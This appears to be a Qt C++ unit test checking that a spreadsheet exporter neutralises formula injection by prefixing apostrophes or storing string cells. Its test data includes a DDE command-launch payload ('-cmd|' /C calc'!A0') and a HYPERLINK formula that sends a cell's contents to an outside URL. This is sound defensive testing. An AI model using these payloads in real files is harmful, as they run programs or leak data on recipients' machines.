// What a spreadsheet program gets from the export: values that it would
// evaluate as formulas arrive as text, ordinary values as they were typed.
#include "excel/exportwriter.h"
#include "excel/workbookreader.h"

#include "tempworkdir.h"

#include <QFile>
#include <QStringEncoder>
#include <QtTest>

namespace
{

QByteArray gb18030(const QString& text)
{
    QStringEncoder encoder("GB18030");
    return encoder.encode(text);
}

QByteArray readAll(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void formulasArriveAsText_data();
    void formulasArriveAsText();
    void xlsxKeepsFormulasAsStringCells();
};

void TestExport::formulasArriveAsText_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QByteArray>("field"); // the bytes between the name and the ID

    QTest::newRow("sum") << "=1+1" << QByteArray("'=1+1");
    QTest::newRow("hyperlink") << "=HYPERLINK(\"http://x.test/?\"&A1,\"点我\")"
                               << "'=HYPERLINK(\"http://x.test/?\"&A1,\"" + gb18030("点我") + "\")";
    QTest::newRow("lone equals sign") << "=" << QByteArray("'=");
    QTest::newRow("at sign begins it") << "@home" << QByteArray("'@home");
    QTest::newRow("lotus-style function") << "@SUM(1+1)*3" << QByteArray("'@SUM(1+1)*3");
    QTest::newRow("plus expression") << "+1+1" << QByteArray("'+1+1");
    QTest::newRow("minus expression") << "-2+3" << QByteArray("'-2+3");
    QTest::newRow("minus and a name") << "-cmd|' /C calc'!A0" << QByteArray("'-cmd|' /C calc'!A0");
    QTest::newRow("phone with blanks") << "+86 138 0013 8000" << QByteArray("'+86 138 0013 8000");
    QTest::newRow("minus and chinese") << "-见备注"
                                       << "'-" + gb18030("见备注");
    QTest::newRow("tab in front: apostrophe, then quotes") << "\t=1+1" << QByteArray("\"'\t=1+1\"");
    QTest::newRow("carriage return in front") << "\r=1+1" << QByteArray("\"'\r=1+1\"");
    QTest::newRow("formula over two lines") << "=1+\n1" << QByteArray("\"'=1+\n1\"");

    QTest::newRow("international mobile stays") << "+8613800138000" << QByteArray("+8613800138000");
    QTest::newRow("negative number stays") << "-5" << QByteArray("-5");
    QTest::newRow("decimal stays") << "-0.5" << QByteArray("-0.5");
    QTest::newRow("lone minus stays") << "-" << QByteArray("-");
    QTest::newRow("lone plus stays") << "+" << QByteArray("+");
    QTest::newRow("at sign inside an address stays")
        << "幸福路 8 号 @home" << gb18030("幸福路 8 号 @home");
    QTest::newRow("equals sign later stays") << "A=B" << QByteArray("A=B");
    QTest::newRow("landline of blanks stays") << "           " << QByteArray("           ");
    QTest::newRow("empty stays") << "" << QByteArray();
}

void TestExport::formulasArriveAsText()
{
    QFETCH(QString, value);
    QFETCH(QByteArray, field);

    TempWorkDir dir;
    ListExportRows rows({QStringLiteral("Name"), QStringLiteral("Address"), QStringLiteral("ID")},
                        {{QStringLiteral("张三"), value, QStringLiteral("1")}});
    const QString path = dir.filePath(QStringLiteral("out.xls"));
    QString error;
    QVERIFY2(writeTabText(path, rows, &error), qPrintable(error));

    const QByteArray expected =
        "\"Name\"\t\"Address\"\t\"ID\"\t\r\n" + gb18030("张三") + '\t' + field + "\t1\t\r\n";
    QCOMPARE(readAll(path), expected);
    // The same field as the bench and other writers get it.
    QCOMPARE(gb18030(tabTextField(value)), field);
}

// The workbook holds every value as a string cell: what looks like a formula
// reads back as the very text, with no apostrophe and no computed result.
void TestExport::xlsxKeepsFormulasAsStringCells()
{
    TempWorkDir dir;
    const QStringList values = {QStringLiteral("=1+1"), QStringLiteral("@SUM(1+1)"),
                                QStringLiteral("-2+3"), QStringLiteral("+8613800138000")};
    ListExportRows rows({QStringLiteral("Name"), QStringLiteral("Address"),
                         QStringLiteral("Mobile"), QStringLiteral("Phone")},
                        {values});
    const QString path = dir.filePath(QStringLiteral("out.xlsx"));
    QString error;
    QVERIFY2(writeXlsx(path, rows, &error), qPrintable(error));

    const std::unique_ptr<WorkbookReader> reader = WorkbookReader::open(path, &error);
    QVERIFY2(reader, qPrintable(error));
    QVERIFY2(reader->selectSheet(0, &error), qPrintable(error));
    for (int c = 0; c < values.size(); ++c)
        QCOMPARE(reader->cellText(2, c + 1), values.at(c));
}

QTEST_MAIN(TestExport)
#include "test_export.moc"
